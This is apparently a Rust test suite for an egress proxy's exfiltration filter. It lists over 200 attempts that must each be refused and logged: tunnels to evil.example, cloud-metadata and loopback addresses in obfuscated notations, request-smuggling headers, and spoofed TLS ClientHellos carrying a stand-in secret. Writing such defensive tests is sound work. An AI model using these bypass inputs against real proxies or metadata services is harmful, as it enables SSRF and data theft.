//! The exfiltration suite: every way out that we know of, tried. Each attempt names the reason for which it must be
//! refused; the refusal must be written down with the host as it was asked for, and nothing may have reached the server.

use orchestra_runtime::egress::{MAX_FIELDS, MAX_FIRST_LINE, MAX_HEAD, MAX_HELLO, Reason, Verdict};

use super::hello::{message, names, record, to, with_extensions};
use super::stage::{SECRET, Stage, has};

/// What is sent, with `{port}` for the server's port, and what follows if a tunnel opens.
struct Attempt {
    name: String,
    bytes: Vec<u8>,
    then: Option<Vec<u8>>,
    reason: Reason,
    /// Names that lead elsewhere than to the server.
    leads: Option<Vec<&'static str>>,
}

fn raw(name: impl Into<String>, bytes: impl AsRef<[u8]>, reason: Reason) -> Attempt {
    Attempt { name: name.into(), bytes: bytes.as_ref().to_vec(), then: None, reason, leads: None }
}

fn connect(target: &str, reason: Reason) -> Attempt {
    let then = [to("registry.example"), SECRET.to_vec()].concat();
    let bytes = format!("CONNECT {target} HTTP/1.1\r\n\r\n");
    Attempt { then: Some(then), ..raw(format!("CONNECT {target:?}"), bytes, reason) }
}

fn get(url: &str, reason: Reason) -> Attempt {
    let rest = url.split_once("://").map_or(url, |(_, rest)| rest);
    let host = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let bytes = format!("GET {url} HTTP/1.1\r\nHost: {host}\r\nX-Secret: exfiltrated-secret\r\n\r\n");
    raw(format!("GET {url:?}"), bytes, reason)
}

/// A request to the allowed host with these further lines.
fn lines(name: &str, first: &str, lines: &str, reason: Reason) -> Attempt {
    raw(name, format!("{first}\r\n{lines}\r\nexfiltrated-secret"), reason)
}

const GET: &str = "GET http://registry.example:{port}/ HTTP/1.1";
const POST: &str = "POST http://registry.example:{port}/ HTTP/1.1";
const HOST: &str = "Host: registry.example:{port}\r\n";

/// A tunnel to the allowed host, and what is said in it.
fn inside(name: &str, then: impl AsRef<[u8]>, reason: Reason) -> Attempt {
    let bytes = "CONNECT registry.example:{port} HTTP/1.1\r\nHost: registry.example:{port}\r\n\r\n";
    let then = [then.as_ref(), SECRET].concat();
    Attempt { then: Some(then), ..raw(format!("in a tunnel: {name}"), bytes, reason) }
}

fn leads(addresses: &[&'static str], reason: Reason) -> Attempt {
    let attempt = connect("registry.example:{port}", reason);
    let name = format!("a name that leads to {}", addresses.join(" and "));
    Attempt { name, leads: Some(addresses.to_vec()), ..attempt }
}

fn of_targets() -> Vec<Attempt> {
    use Reason::*;
    let long = format!("{}.example:443", "a".repeat(64));
    let longer = format!("{}.example:443", vec!["a".repeat(63); 4].join("."));
    let tunnels = [
        // Hosts that nobody allowed.
        ("evil.example:443", NotAllowed),
        ("evil-registry.example:{port}", NotAllowed),
        ("registry.example.evil.example:{port}", NotAllowed),
        ("sub.registry.example:{port}", NotAllowed),
        ("wild.example:{port}", NotAllowed),
        ("evil-wild.example:{port}", NotAllowed),
        ("a.wild.example.evil:{port}", NotAllowed),
        ("xn--rgistry-bva.example:{port}", NotAllowed),
        ("xn--regstry-q9a.example:{port}", NotAllowed),
        ("dns.example:443", NotAllowed),
        ("doh.resolver.example:443", NotAllowed),
        ("metadata.google.internal:80", NotAllowed),
        ("proxy.example:3128", NotAllowed),
        // Ports that nobody allowed.
        ("registry.example:443", PortNotAllowed),
        ("registry.example:22", PortNotAllowed),
        ("registry.example:53", PortNotAllowed),
        ("registry.example:853", PortNotAllowed),
        ("tls.example:22", PortNotAllowed),
        ("tls.example:8443", PortNotAllowed),
        ("tls.example:25", PortNotAllowed),
        // Ports that are none.
        ("registry.example", BadPort),
        ("registry.example:", BadPort),
        ("registry.example:0", BadPort),
        ("registry.example:00443", BadPort),
        ("registry.example:+443", BadPort),
        ("registry.example:-1", BadPort),
        ("registry.example:65536", BadPort),
        ("registry.example:65979", BadPort),
        ("registry.example:0x1bb", BadPort),
        ("registry.example:443:443", BadPort),
        ("registry.example:https", BadPort),
        // Addresses in every notation.
        ("127.0.0.1:7080", AddressLiteral),
        ("127.0.0.1:7081", AddressLiteral),
        ("127.0.0.1:22", AddressLiteral),
        ("169.254.169.254:80", AddressLiteral),
        ("93.184.216.34:443", AddressLiteral),
        ("10.0.0.1:443", AddressLiteral),
        ("0.0.0.0:443", AddressLiteral),
        ("2130706433:443", AddressLiteral),
        ("2852039166:80", AddressLiteral),
        ("017700000001:443", AddressLiteral),
        ("0177.0.0.1:443", AddressLiteral),
        ("0x7f000001:443", AddressLiteral),
        ("0x7f.0x0.0x0.0x1:443", AddressLiteral),
        ("0X7F000001:443", AddressLiteral),
        ("0xa9fea9fe:80", AddressLiteral),
        ("127.1:443", AddressLiteral),
        ("127.0.1:443", AddressLiteral),
        ("registry.example.1:443", AddressLiteral),
        ("[::1]:443", AddressLiteral),
        ("[::]:443", AddressLiteral),
        ("[::ffff:127.0.0.1]:443", AddressLiteral),
        ("[::ffff:a9fe:a9fe]:80", AddressLiteral),
        ("[::127.0.0.1]:443", AddressLiteral),
        ("[64:ff9b::7f00:1]:443", AddressLiteral),
        ("[2002:7f00:1::]:443", AddressLiteral),
        ("[fe80::1%25eth0]:443", AddressLiteral),
        ("[fe80::1%lo]:443", AddressLiteral),
        ("[fd00:ec2::254]:80", AddressLiteral),
        ("[2606:2800:220:1:248:1893:25c8:1946]:443", AddressLiteral),
        ("::1", AddressLiteral),
        // Names of the machine itself.
        ("localhost:7080", LocalName),
        ("LocalHost:443", LocalName),
        ("sub.localhost:443", LocalName),
        ("localhost.localdomain:443", LocalName),
        ("ip6-localhost:443", LocalName),
        // Names that some library reads otherwise.
        ("registry.example.:{port}", BadHost),
        ("registry.example..:{port}", BadHost),
        (".registry.example:{port}", BadHost),
        ("registry..example:{port}", BadHost),
        ("registry%2eexample:{port}", BadHost),
        ("registry.example%00.evil.example:{port}", BadHost),
        ("%72egistry.example:{port}", BadHost),
        ("registry\\.example:{port}", BadHost),
        ("registry.example/x:{port}", BadHost),
        ("registry.example?x:{port}", BadHost),
        ("registry.example#x:{port}", BadHost),
        ("registry_.example:{port}", BadHost),
        ("-registry.example:{port}", BadHost),
        ("registry-.example:{port}", BadHost),
        ("*.wild.example:{port}", BadHost),
        ("r\u{e9}gistry.example:{port}", BadHost),
        ("reg\u{456}stry.example:{port}", BadHost),
        ("registry\u{3002}example:{port}", BadHost),
        ("\u{ff52}egistry.example:{port}", BadHost),
        ("1\u{2460}7.0.0.1:443", BadHost),
        ("registry.example\u{200b}:{port}", BadHost),
        (":443", BadHost),
        (&*long, BadHost),
        (&*longer, BadHost),
        // User names.
        ("user@registry.example:{port}", Userinfo),
        ("registry.example:{port}@evil.example:443", Userinfo),
        ("evil.example:443@registry.example:{port}", Userinfo),
        // Whole URLs where an authority belongs.
        ("http://registry.example:{port}", BadPort),
        ("registry.example:{port}/../evil.example", BadPort),
    ];
    let urls = [
        ("http://evil.example/", NotAllowed),
        ("http://registry.example/", PortNotAllowed),
        ("http://tls.example:443/", PlainOnTlsPort),
        ("http://tls.example:53/", PortNotAllowed),
        ("http://127.0.0.1:7080/v1/messages", AddressLiteral),
        ("http://169.254.169.254/latest/meta-data/", AddressLiteral),
        ("http://2852039166/latest/meta-data/", AddressLiteral),
        ("http://0xA9.0xFE.0xA9.0xFE/", AddressLiteral),
        ("http://[::ffff:169.254.169.254]/", AddressLiteral),
        ("http://[fe80::1%25lo]/", AddressLiteral),
        ("http://localhost:7080/", LocalName),
        ("http://user:pass@registry.example:{port}/", Userinfo),
        ("http://registry.example:{port}@evil.example/", Userinfo),
        ("http://registry.example%40evil.example/", BadHost),
        ("http://registry.example%2f@evil.example/", Userinfo),
        ("http://registry.example\\@evil.example/", Userinfo),
        ("http://evil.example\\.registry.example/", BadHost),
        ("http:///etc/passwd", BadHost),
        ("http://", BadHost),
        ("https://registry.example:{port}/", HttpsInClear),
        ("HTTPS://registry.example/", HttpsInClear),
        ("ftp://registry.example/", BadScheme),
        ("file:///etc/passwd", BadScheme),
        ("gopher://registry.example:{port}/_x", BadScheme),
        ("ws://registry.example:{port}/", BadScheme),
        ("ssh://registry.example/", BadScheme),
        ("javascript:alert(1)", BadScheme),
        ("http:registry.example", BadScheme),
        ("/relative", BadTarget),
        ("//registry.example/", BadTarget),
        ("*", BadTarget),
        ("http://registry.example:{port}/#fragment", BadTarget),
        ("http://registry.example:{port}/\\evil.example", BadTarget),
    ];
    let tunnels = tunnels.into_iter().map(|(target, reason)| connect(target, reason));
    tunnels.chain(urls.into_iter().map(|(url, reason)| get(url, reason))).collect()
}

fn of_heads() -> Vec<Attempt> {
    use Reason::*;
    let many = "A: b\r\n".repeat(MAX_FIELDS + 1);
    let wide = format!("{HOST}A: {}\r\n", "b".repeat(MAX_HEAD));
    let long = format!("GET http://registry.example:{{port}}/{} HTTP/1.1", "a".repeat(MAX_FIRST_LINE));
    let endless = "CONNECT ".to_owned() + &"a".repeat(2 * MAX_FIRST_LINE);
    let with = |more: &str| format!("{HOST}{more}\r\n");
    vec![
        // Another host in a header than in the URL.
        lines("another Host", GET, "Host: evil.example\r\n", HostMismatch),
        lines("the Host's port", GET, "Host: registry.example\r\n", HostMismatch),
        lines("two hosts", GET, &with("Host: evil.example"), HostMismatch),
        lines("the same Host twice", GET, &with("Host: registry.example:{port}"), HostMismatch),
        lines("no Host", GET, "", HostMismatch),
        lines("a Host with a user", GET, "Host: evil@registry.example:{port}\r\n", HostMismatch),
        lines("an empty Host", GET, "Host:\r\n", HostMismatch),
        lines("two names in Host", GET, "Host: registry.example:{port}, evil.example\r\n", HostMismatch),
        lines(
            "CONNECT with another Host",
            "CONNECT registry.example:{port} HTTP/1.1",
            "Host: evil.example:443\r\n",
            HostMismatch,
        ),
        lines(
            "CONNECT with two hosts",
            "CONNECT registry.example:{port} HTTP/1.1",
            &with("Host: evil.example:443"),
            HostMismatch,
        ),
        // Where a body ends.
        lines("CL.TE", POST, &with("Content-Length: 4\r\nTransfer-Encoding: chunked"), BadFraming),
        lines("TE.CL", POST, &with("Transfer-Encoding: chunked\r\nContent-Length: 4"), BadFraming),
        lines("TE.TE", POST, &with("Transfer-Encoding: chunked\r\nTransfer-Encoding: identity"), BadFraming),
        lines("TE of a list", POST, &with("Transfer-Encoding: gzip, chunked"), BadFraming),
        lines("TE of another kind", POST, &with("Transfer-Encoding: xchunked"), BadFraming),
        lines("TE with a tail", POST, &with("Transfer-Encoding: chunked;x=y"), BadFraming),
        lines("two lengths", POST, &with("Content-Length: 4\r\nContent-Length: 18"), BadFraming),
        lines("the same length twice", POST, &with("Content-Length: 18\r\nContent-Length: 18"), BadFraming),
        lines("a list of lengths", POST, &with("Content-Length: 18, 18"), BadFraming),
        lines("a signed length", POST, &with("Content-Length: +18"), BadFraming),
        lines("a negative length", POST, &with("Content-Length: -18"), BadFraming),
        lines("a length in hexadecimal", POST, &with("Content-Length: 0x12"), BadFraming),
        lines("a length beyond numbers", POST, &with("Content-Length: 99999999999999999999999"), BadFraming),
        lines("an empty length", POST, &with("Content-Length:"), BadFraming),
        lines(
            "CONNECT with a body",
            "CONNECT registry.example:{port} HTTP/1.1",
            &with("Content-Length: 18"),
            BadFraming,
        ),
        // Lines that are read in two ways.
        lines("a space before the colon", POST, &with("Transfer-Encoding : chunked"), BadRequest),
        lines("a continued line", POST, &with("Transfer-Encoding:\r\n chunked"), BadRequest),
        lines(
            "a first line that is continued",
            GET,
            " Host: evil.example\r\nHost: registry.example:{port}\r\n",
            BadRequest,
        ),
        lines("a line without a colon", GET, &with("nonsense"), BadRequest),
        lines("a line without a name", GET, &with(": x"), BadRequest),
        lines("a lone LF", GET, &with("A: b\nTransfer-Encoding: chunked"), BadRequest),
        lines("a lone CR", GET, &with("A: b\rTransfer-Encoding: chunked"), BadRequest),
        lines("a NUL in a value", GET, &with("A: b\0c"), BadRequest),
        lines("a NUL in a name", GET, &with("A\0: b"), BadRequest),
        lines("a control character", GET, &with("A: \x1b[2J"), BadRequest),
        lines("a Connection that takes Host away", GET, &with("Connection: close, Host"), BadRequest),
        lines(
            "a Connection that takes the length away",
            POST,
            &with("Content-Length: 4\r\nConnection: Content-Length"),
            BadRequest,
        ),
        raw("only LF", "GET http://registry.example:{port}/ HTTP/1.1\nHost: registry.example:{port}\n\n", BadRequest),
        raw(
            "LF at the end",
            "GET http://registry.example:{port}/ HTTP/1.1\r\nHost: registry.example:{port}\r\n\n",
            BadRequest,
        ),
        raw("a NUL in the target", "CONNECT registry.example\0.evil.example:443 HTTP/1.1\r\n\r\n", BadRequest),
        raw("a NUL before the port", "CONNECT registry.example\0:443 HTTP/1.1\r\n\r\n", BadRequest),
        raw("a tab in the first line", "GET\thttp://registry.example:{port}/ HTTP/1.1\r\n\r\n", BadRequest),
        raw("two spaces", "GET  http://registry.example:{port}/ HTTP/1.1\r\n\r\n", BadRequest),
        raw(
            "a space in the URL",
            "GET http://registry.example:{port}/ http://evil.example/ HTTP/1.1\r\n\r\n",
            BadRequest,
        ),
        raw("an empty line first", format!("\r\n{GET}\r\n{HOST}\r\n"), BadRequest),
        raw("HTTP/0.9", "GET http://registry.example:{port}/\r\n\r\n", BadRequest),
        raw("HTTP/2 by name", format!("GET http://registry.example:{{port}}/ HTTP/2.0\r\n{HOST}\r\n"), BadRequest),
        raw("the preface of HTTP/2", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", BadRequest),
        raw("HTTP/1.10", format!("GET http://registry.example:{{port}}/ HTTP/1.10\r\n{HOST}\r\n"), BadRequest),
        raw("SOCKS 5", b"\x05\x01\x00\r\n\r\n", BadRequest),
        raw("SOCKS 4", b"\x04\x01\x01\xbb\x7f\x00\x00\x01\x00\r\n\r\n", BadRequest),
        raw("TLS to the proxy itself", [&to("registry.example")[..], b"\r\n\r\n"].concat(), BadRequest),
        raw(
            "a DNS query",
            b"\x00\x1d\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03abc\x04evil\x00\x00\x10\x00\x01\r\n\r\n",
            BadRequest,
        ),
        // Methods and other protocols.
        lines("TRACE", "TRACE http://registry.example:{port}/ HTTP/1.1", HOST, BadMethod),
        lines("TRACK", "TRACK http://registry.example:{port}/ HTTP/1.1", HOST, BadMethod),
        lines("PROPFIND", "PROPFIND http://registry.example:{port}/ HTTP/1.1", HOST, BadMethod),
        lines("a method in lower case", "get http://registry.example:{port}/ HTTP/1.1", HOST, BadMethod),
        lines("connect in lower case", "connect registry.example:{port} HTTP/1.1", HOST, BadMethod),
        lines("OPTIONS *", "OPTIONS * HTTP/1.1", HOST, BadTarget),
        lines("a WebSocket", GET, &with("Connection: Upgrade\r\nUpgrade: websocket"), Upgrade),
        lines(
            "h2c",
            GET,
            &with("Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA"),
            Upgrade,
        ),
        lines("an upgrade that nobody connects", GET, &with("Upgrade: TLS/1.0"), Upgrade),
        lines("an unknown expectation", POST, &with("Expect: 200-ok\r\nContent-Length: 18"), BadExpectation),
        // Too much.
        lines("too many lines", GET, &with(&many), HeadTooLarge),
        lines("a line that is too long", GET, &wide, HeadTooLarge),
        lines("a URL that is too long", &long, HOST, HeadTooLarge),
        raw("a first line without an end", endless, HeadTooLarge),
    ]
}

fn of_tunnels() -> Vec<Attempt> {
    use Reason::*;
    let mut second = to("registry.example");
    second[1] = 2;
    let many = with_extensions(&[(0, names(&[b"registry.example", b"evil.example"]))]);
    let twice = with_extensions(&[(0, names(&[b"registry.example"])), (0, names(&[b"evil.example"]))]);
    let own = (0, names(&[b"registry.example"]));
    let whole = to("registry.example");
    let fragmented = [record(&whole[5..40]), record(&whole[40..])].concat();
    let first_byte = [record(&whole[5..6]), record(&whole[6..])].concat();
    let other_type = with_extensions(&[(0, vec![0, 5, 1, 0, 2, b'a', b'b'])]);
    let oversized = { [22, 3, 1, 0xff, 0xff].into_iter().chain(vec![1; MAX_HELLO]).collect::<Vec<_>>() };
    let behind = record(&[&whole[5..], &[0; 9]].concat());
    let mut cut_short = whole.clone();
    // The list of extensions claims more than there is.
    let place = 5 + 4 + 2 + 32 + 1 + 4 + 2;
    cut_short[place + 1] = cut_short[place + 1].wrapping_add(9);
    vec![
        inside("another server", to("evil.example"), ServerNameMismatch),
        inside("another allowed server", to("other.example"), ServerNameMismatch),
        inside("a name below", to("sub.registry.example"), ServerNameMismatch),
        inside("a name above", to("example"), ServerNameMismatch),
        inside("another server in capitals", to("EVIL.EXAMPLE"), ServerNameMismatch),
        inside("a dot at the end", to("registry.example."), ServerNameMismatch),
        inside("a NUL in the name", to("registry.example\0.evil.example"), ServerNameMismatch),
        inside("an address as a name", to("127.0.0.1"), ServerNameMismatch),
        inside("a homograph", with_extensions(&[(0, names(&["reg\u{456}stry.example".as_bytes()]))]), BadHello),
        inside("no name", with_extensions(&[(43, vec![2, 3, 4])]), NoServerName),
        inside(
            "no extensions",
            record(&message(&[&[3, 3][..], &[7; 32], &[0, 0, 2, 0x13, 1, 1, 0]].concat())),
            NoServerName,
        ),
        inside("an empty name", with_extensions(&[(0, names(&[b""]))]), BadHello),
        inside("an empty list of names", with_extensions(&[(0, vec![0, 0])]), BadHello),
        inside("two names", many, BadHello),
        inside("two lists of names", twice, BadHello),
        inside("a name of another type", other_type, BadHello),
        inside("bytes behind the message", behind, BadHello),
        inside("lengths that do not fit", cut_short, BadHello),
        inside("an encrypted Client Hello", with_extensions(&[own.clone(), (0xfe0d, vec![0; 200])]), EncryptedHello),
        inside("an encrypted server name", with_extensions(&[own, (0xffce, vec![0; 200])]), EncryptedHello),
        inside("a hello in two records", fragmented, HelloFragmented),
        inside("a record with one byte", first_byte, HelloFragmented),
        inside("a hello that is too long", oversized, HelloTooLarge),
        inside("another message of the handshake", record(&[2, 0, 0, 2, 3, 3]), BadHello),
        inside("a version that there is not", second, NotTls),
        inside("SSL 2", [0x80, 0x2e, 1, 0, 2, 0, 0x15, 0, 0, 0, 0x10], NotTls),
        inside("an alert", [21, 3, 3, 0, 2, 2, 40], NotTls),
        inside("plain HTTP", "GET / HTTP/1.1\r\nHost: evil.example\r\n\r\n", NotTls),
        inside("CONNECT again", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n", NotTls),
        inside("SSH", "SSH-2.0-OpenSSH_9.6\r\n", NotTls),
        inside("SOCKS 5", b"\x05\x01\x00", NotTls),
        inside("a DNS query", b"\x00\x1d\x12\x34\x01\x00\x00\x01", NotTls),
        inside("git", "0032git-upload-pack /project.git\0host=evil\0", NotTls),
        inside("SMTP", "EHLO evil.example\r\n", NotTls),
        inside("nothing, and the end", "", NotTls),
    ]
}

fn of_addresses() -> Vec<Attempt> {
    use Reason::*;
    vec![
        leads(&["169.254.169.254"], MetadataAddress),
        leads(&["169.254.170.2"], MetadataAddress),
        leads(&["100.100.100.200"], MetadataAddress),
        leads(&["168.63.129.16"], MetadataAddress),
        leads(&["fd00:ec2::254"], MetadataAddress),
        leads(&["127.0.0.2"], LoopbackAddress),
        leads(&["0.0.0.0"], LoopbackAddress),
        leads(&["::1"], LoopbackAddress),
        leads(&["::"], LoopbackAddress),
        leads(&["10.0.0.5"], PrivateAddress),
        leads(&["172.20.0.1"], PrivateAddress),
        leads(&["192.168.1.1"], PrivateAddress),
        leads(&["100.64.0.9"], PrivateAddress),
        leads(&["fd12:3456::1"], PrivateAddress),
        leads(&["fec0::1"], PrivateAddress),
        leads(&["169.254.1.1"], LinkLocalAddress),
        leads(&["fe80::1"], LinkLocalAddress),
        leads(&["224.0.0.251"], MulticastAddress),
        leads(&["ff02::fb"], MulticastAddress),
        leads(&["::ffff:10.0.0.5"], EmbeddedAddress),
        leads(&["::ffff:127.0.0.1"], EmbeddedAddress),
        leads(&["::127.0.0.1"], EmbeddedAddress),
        leads(&["64:ff9b::a9fe:a9fe"], EmbeddedAddress),
        leads(&["2002:a9fe:a9fe::1"], EmbeddedAddress),
        leads(&["2001:0:4136:e378:8000:63bf:3fff:fdd2"], EmbeddedAddress),
        leads(&["198.18.0.1"], ReservedAddress),
        leads(&["192.0.2.1"], ReservedAddress),
        leads(&["240.0.0.1"], ReservedAddress),
        leads(&["255.255.255.255"], ReservedAddress),
        leads(&["2001:db8::1"], ReservedAddress),
        leads(&["127.0.0.1", "10.0.0.5"], PrivateAddress),
        leads(&["127.0.0.1", "127.0.0.1", "169.254.169.254"], MetadataAddress),
        leads(&["127.0.0.1", "::ffff:127.0.0.1"], EmbeddedAddress),
        leads(&[], Unresolvable),
    ]
}

/// What was asked for, as the record shows it at most.
const MAX_SHOWN: usize = 256;

#[tokio::test]
async fn every_attempt_is_refused_for_its_own_reason_and_written_down() {
    let attempts: Vec<_> = [of_targets(), of_heads(), of_tunnels(), of_addresses()].into_iter().flatten().collect();
    assert!(attempts.len() >= 200, "{}", attempts.len());
    for attempt in attempts {
        let stage = Stage::new().await;
        let port = stage.server.address.port().to_string();
        if let Some(addresses) = &attempt.leads {
            stage.names.lead("registry.example", &[addresses]);
        }
        let bytes = replaced(&attempt.bytes, b"{port}", port.as_bytes());
        let answer = stage.say(&bytes, attempt.then.as_deref()).await;
        let asked = stage.names.asked();
        let (decisions, heard) = stage.end().await;
        let name = &attempt.name;

        let reason = attempt.reason;
        let noted: Vec<_> = decisions.iter().map(|decision| (decision.verdict, decision.count)).collect();
        assert_eq!(noted, [(Verdict::of(reason), 1)], "{name}: {decisions:?}");
        let host = &decisions[0].host;
        assert!(host.len() <= MAX_SHOWN && host.bytes().all(|byte| byte.is_ascii_graphic()), "{name}: {host:?}");
        assert!(!host.contains("pass"), "{name}: {host:?}");

        assert!(!has(&answer, b"hello"), "{name}: the server has answered");
        if attempt.then.is_none() {
            let status = format!("HTTP/1.1 {} ", reason.status());
            assert!(answer.starts_with(status.as_bytes()), "{name}: {}", String::from_utf8_lossy(&answer));
            assert!(has(&answer, format!("({reason})").as_bytes()), "{name}");
        }
        assert!(heard.is_empty(), "{name}: the server has heard {:?}", String::from_utf8_lossy(&heard));
        // A name that is not allowed is not even looked up: a look-up leaves the machine too.
        let looked_up = asked.iter().all(|name| name == "registry.example");
        assert!(looked_up, "{name}: {asked:?}");
    }
}

fn replaced(text: &[u8], what: &[u8], with: &[u8]) -> Vec<u8> {
    let mut whole = Vec::with_capacity(text.len());
    let mut rest = text;
    while let Some(place) = rest.windows(what.len()).position(|window| window == what) {
        whole.extend(&rest[..place]);
        whole.extend(with);
        rest = &rest[place + what.len()..];
    }
    whole.extend(rest);
    whole
}

#[tokio::test]
async fn a_name_that_changes_its_mind_is_checked_each_time_and_connected_to_as_checked() {
    let stage = Stage::new().await;
    let port = stage.server.address.port();
    let first: &[&str] = &["127.0.0.1"];
    stage.names.lead("registry.example", &[first, &["169.254.169.254"], first, &["127.0.0.1", "10.0.0.1"]]);
    let get = format!("GET http://registry.example:{port}/ HTTP/1.1\r\nHost: registry.example:{port}\r\n\r\n");
    let mut statuses = Vec::new();
    for _ in 0..4 {
        let answer = stage.say(get.as_bytes(), None).await;
        statuses.push(String::from_utf8_lossy(&answer[9..12]).into_owned());
    }
    assert_eq!(statuses, ["200", "403", "200", "403"]);
    assert_eq!(stage.names.asked().len(), 4, "one look-up per connection: what was checked is what is connected to");
    let (decisions, _) = stage.end().await;
    let count =
        |verdict| decisions.iter().filter(|known| known.verdict == verdict).map(|known| known.count).sum::<u64>();
    assert_eq!(count(Verdict::Allowed), 2);
    assert_eq!(count(Verdict::of(Reason::MetadataAddress)), 1);
    assert_eq!(count(Verdict::of(Reason::PrivateAddress)), 1);
}
